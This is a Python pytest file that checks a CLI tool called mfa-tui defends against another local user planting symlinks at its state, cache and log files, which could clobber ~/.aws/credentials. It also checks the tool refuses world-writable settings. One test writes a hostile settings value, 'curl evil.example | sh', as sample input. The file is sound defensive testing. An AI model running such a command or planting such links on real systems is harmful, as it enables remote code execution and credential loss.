"""Another local user against mfa-tui's own files: nothing they plant is written through.

mfa-tui writes a few files of its own (the state of spent codes, the `list` cache, the
daemon's log). A link planted at one of them, pointing at `~/.aws/credentials`, made a
refresh replace the credentials with JSON, a `list` truncate them, and `daemon --once`
append to them. Someone else gets to plant one when a folder on the way is theirs or
writable by them: folders mfa-tui created 0777 under `umask 000`, or an XDG folder on a
shared sticky folder such as /tmp. Tests run as root here, so "another user" is a
folder or file chowned to a uid nobody has.
"""

from __future__ import annotations

import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from mfa_tui import listing
from mfa_tui.cli import main
from mfa_tui.core.codes import STATE_FILE
from mfa_tui.settings import load_settings
from tests.moto_fixtures import Sandbox

STRANGER = 4242  # a uid nobody on the test machine has
VICTIM_TEXT = b"[test-user]\naws_access_key_id = AKIAVICTIM\naws_secret_access_key = keep-me\n"
NO_KEYRING = {"PYTHON_KEYRING_BACKEND": "keyring.backends.null.Keyring"}

pytestmark = pytest.mark.skipif(os.getuid() != 0, reason="chown to another uid needs root")


def mfa_tui(*args: str, umask: int | None = None) -> subprocess.CompletedProcess[str]:
    def set_umask() -> None:
        if umask is not None:
            os.umask(umask)

    return subprocess.run(
        [sys.executable, "-m", "mfa_tui", *args],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, **NO_KEYRING},
        preexec_fn=set_umask,
        check=False,
    )


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A stand-in for the person's `~/.aws/credentials`: what a planted link points at."""
    path = tmp_path / "victim-credentials"
    path.write_bytes(VICTIM_TEXT)
    path.chmod(0o600)
    return path


def untouched(victim: Path) -> None:
    st = victim.lstat()
    assert stat.S_ISREG(st.st_mode) and victim.read_bytes() == VICTIM_TEXT


def plant(link: Path, target: Path) -> None:
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target)


def test_a_link_at_the_state_file_is_refused_before_any_call(
    sandbox: Sandbox, isolated_env: Path, victim: Path
) -> None:
    state = isolated_env / ".local" / "state" / "mfa-tui" / STATE_FILE
    plant(state, victim)
    done = mfa_tui("refresh", "test-user", "--code", "123456")
    untouched(victim)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert f"{state} is a link" in done.stderr
    assert sandbox.fault.actions() == [], "the code was not spent on a refresh that stops"
    # Once the link is gone, the state file is mfa-tui's own again.
    state.unlink()
    done = mfa_tui("refresh", "test-user", "--code", "123456")
    assert done.returncode == 0, done.stderr
    assert stat.S_IMODE(state.lstat().st_mode) == 0o600 and not state.is_symlink()
    untouched(victim)


def test_links_at_the_list_cache_and_its_temp_file_are_replaced_never_followed(
    aws_dir: Path, isolated_env: Path, victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(listing, "STILL_SECONDS", 0.0)
    (aws_dir / "config").write_text("[profile u]\nregion = eu-west-1\n")
    cache = isolated_env / ".cache" / "mfa-tui" / listing.CACHE_NAME
    plant(cache, victim)
    # The temp name the cache was written through before: predictable, so plantable.
    plant(cache.parent / f"{listing.CACHE_NAME}.{os.getpid()}.tmp", victim)
    assert main(["list", "--json"]) == 0
    untouched(victim)
    assert not cache.is_symlink() and stat.S_IMODE(cache.stat().st_mode) == 0o600
    assert listing.cached_listing(True) is not None, "the cache works again"


def test_a_link_at_the_daemon_log_is_refused(
    sandbox: Sandbox, isolated_env: Path, victim: Path
) -> None:
    log = isolated_env / ".local" / "state" / "mfa-tui" / "log" / "daemon.log"
    plant(log, victim)
    done = mfa_tui("daemon", "--once")
    untouched(victim)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert f"{log} is a link" in done.stderr


def test_under_umask_000_every_folder_and_file_mfa_tui_makes_is_private(
    sandbox: Sandbox, isolated_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for args in (["refresh", "test-user", "--code", "123456"], ["daemon", "--once"]):
        done = mfa_tui(*args, umask=0)
        assert done.returncode == 0, (args, done.stderr)
    # `list` keeps its cache only once the files have been still for 2 s: in this
    # process, where that wait can be skipped. A note about this computer (the demo's
    # credential_process program is not installed) is never cached: give it one.
    config = sandbox.paths.config
    config.write_text(config.read_text().replace("/usr/local/bin/get-creds", sys.executable))
    monkeypatch.setattr(listing, "STILL_SECONDS", 0.0)
    before = os.umask(0)
    try:
        assert main(["list"]) == 0
    finally:
        os.umask(before)
    made = [
        isolated_env / ".cache",
        isolated_env / ".cache" / "mfa-tui",
        isolated_env / ".local",
        isolated_env / ".local" / "state",
        isolated_env / ".local" / "state" / "mfa-tui",
        isolated_env / ".local" / "state" / "mfa-tui" / "log",
    ]
    modes = {str(p): oct(stat.S_IMODE(p.stat().st_mode)) for p in made}
    assert modes == dict.fromkeys(modes, "0o700")
    files = [
        isolated_env / ".cache" / "mfa-tui" / listing.CACHE_NAME,
        isolated_env / ".local" / "state" / "mfa-tui" / STATE_FILE,
        isolated_env / ".local" / "state" / "mfa-tui" / "log" / "daemon.log",
    ]
    modes = {str(p): oct(stat.S_IMODE(p.stat().st_mode)) for p in files}
    assert modes == dict.fromkeys(modes, "0o600")


@pytest.fixture
def shared(tmp_path: Path) -> Path:
    """A folder like /tmp: everyone may create entries, nobody may rename others'."""
    folder = tmp_path / "shared"
    folder.mkdir()
    folder.chmod(0o1777)
    return folder


def test_a_cache_folder_another_user_owns_on_a_shared_folder_is_refused_and_named(
    aws_dir: Path,
    shared: Path,
    victim: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setattr(listing, "STILL_SECONDS", 0.0)
    (aws_dir / "config").write_text("[profile u]\nregion = eu-west-1\n")
    # The other user made XDG_CACHE_HOME/mfa-tui before us, with links in it.
    theirs = shared / "cache" / "mfa-tui"
    theirs.mkdir(parents=True)
    plant(theirs / listing.CACHE_NAME, victim)
    plant(theirs / f"{listing.CACHE_NAME}.{os.getpid()}.tmp", victim)
    for path in (theirs.parent, theirs):
        os.chown(path, STRANGER, STRANGER)
        path.chmod(0o777)
    monkeypatch.setenv("XDG_CACHE_HOME", str(shared / "cache"))
    assert main(["list", "--json"]) == 0
    out, err = capsys.readouterr()
    untouched(victim)
    assert '"name": "u"' in out
    assert f"{theirs.parent} belongs to another user" in err and "uid 4242" in err
    assert "the list cache is not kept" in err


def test_a_cache_folder_of_our_own_on_a_shared_folder_works(
    aws_dir: Path, shared: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(listing, "STILL_SECONDS", 0.0)
    (aws_dir / "config").write_text("[profile u]\nregion = eu-west-1\n")
    monkeypatch.setenv("XDG_CACHE_HOME", str(shared / "cache"))
    assert main(["list", "--json"]) == 0
    for folder in (shared / "cache", shared / "cache" / "mfa-tui"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert listing.cached_listing(True) is not None


def test_a_state_folder_on_the_way_another_user_can_change_is_refused_before_any_call(
    sandbox: Sandbox, isolated_env: Path
) -> None:
    local = isolated_env / ".local"
    (local / "state").mkdir(parents=True)
    local.chmod(0o777)  # what mfa-tui itself made under umask 000 before
    done = mfa_tui("refresh", "test-user", "--code", "123456")
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert f"{local} can be changed by other users (mode 777)" in done.stderr
    assert f"chmod go-w {local}" in done.stderr
    assert sandbox.fault.actions() == []


def test_settings_another_user_can_write_are_not_read(settings_path: Path) -> None:
    settings_path.write_text('code_command = "curl evil.example | sh"\n')
    os.chown(settings_path, STRANGER, STRANGER)
    with pytest.raises(Exception, match="belongs to another user") as info:
        load_settings(settings_path)
    assert "code_command there would run as you" in str(info.value)
    os.chown(settings_path, 0, 0)
    settings_path.chmod(0o666)
    with pytest.raises(Exception, match="can be changed by other users"):
        load_settings(settings_path)


@pytest.fixture
def settings_path(isolated_env: Path) -> Path:
    path = isolated_env / ".config" / "mfa-tui" / "config.toml"
    path.parent.mkdir(parents=True)
    return path
